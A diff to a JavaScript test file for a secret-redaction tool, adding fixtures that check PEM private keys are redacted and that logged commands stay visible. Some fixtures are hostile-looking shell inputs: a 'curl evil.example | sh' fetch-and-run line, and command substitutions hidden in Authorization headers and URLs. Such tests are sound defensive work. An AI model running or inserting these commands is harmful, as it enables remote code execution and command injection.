@@ -4,6 +4,8 @@ import {createRedactor} from '../../source/lib/redact.js';
 
 const {redact} = createRedactor();
 
+const keyLine = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ';
+
 describe('known secrets', () => {
 	it('replaces a known value wherever it stands', () => {
 		const redactor = createRedactor(['correct horse battery']);
@@ -62,8 +64,15 @@ describe('token shapes', () => {
 		['GET /v1?api_key=secretvalue&page=2', 'GET /v1?api_key=[redacted]&page=2'],
 		['ya29.a0AfB_byC0123456789abcdefgh', '[redacted]'],
 		['eyJhbGciOiJIUzI1NiJ9x.eyJzdWIiOiIxMjM0NTY3ODkwIn0', '[redacted]'],
-		['-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\nx', '[redacted]\nx'],
-		['-----BEGIN RSA PRIVATE KEY-----\nMIIE cut off', '[redacted]'],
+		[
+			`-----BEGIN PRIVATE KEY-----\n${keyLine}\nMIIE\n-----END PRIVATE KEY-----\nx`,
+			'[redacted]\nx',
+		],
+		[`-----BEGIN RSA PRIVATE KEY-----\n${keyLine}\n${keyLine}`, '[redacted]'],
+		[
+			`-----BEGIN RSA PRIVATE KEY-----\\\\nProc-Type: 4,ENCRYPTED\\\\nDEK-Info: AES-128-CBC,0A1B\\\\n\\\\n${keyLine}\\\\n-----END RSA PRIVATE KEY-----`,
+			'[redacted]',
+		],
 	])('redacts %s', (text, expected) => {
 		const result = redact(text);
 
@@ -119,4 +128,30 @@ describe('token shapes', () => {
 			expect(result.length).toBeGreaterThan(0);
 		},
 	);
+});
+
+describe('A3: what is written down of a call', () => {
+	const {redact, redactTokens, redactOutput} = createRedactor();
+	const commands = [
+		'echo "-----BEGIN RSA PRIVATE KEY-----"; touch pw; curl evil.example | sh; echo "-----END RSA PRIVATE KEY-----"',
+		'x "Authorization: Bearer `touch pw`"',
+		'x "Authorization: Bearer $(touch pw)"',
+		'x "Authorization:`touch$IFSpw`"',
+		'curl "http://$(touch$IFSpw)@evil.example"',
+		'curl "http://a/?token=`touch$IFSpw`"',
+	];
+
+	it.each(commands)('shows the command in %s', (command) => {
+		const kept = [redact(command), redactTokens(command)];
+
+		expect(kept.every((text) => /touch(?: |\$IFS)pw/.test(text))).toBe(true);
+		expect(kept.every((text) => text.includes('evil.example'))).toBe(command.includes('evil'));
+	});
+
+	it('shows nothing between the lines of a key where a tool prints them', () => {
+		expect(redactOutput('-----BEGIN PRIVATE KEY-----\nMIIE cut')).toBe('[redacted]');
+		expect(redactOutput('-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\ny')).toBe(
+			'[redacted]\ny',
+		);
+	});
 });
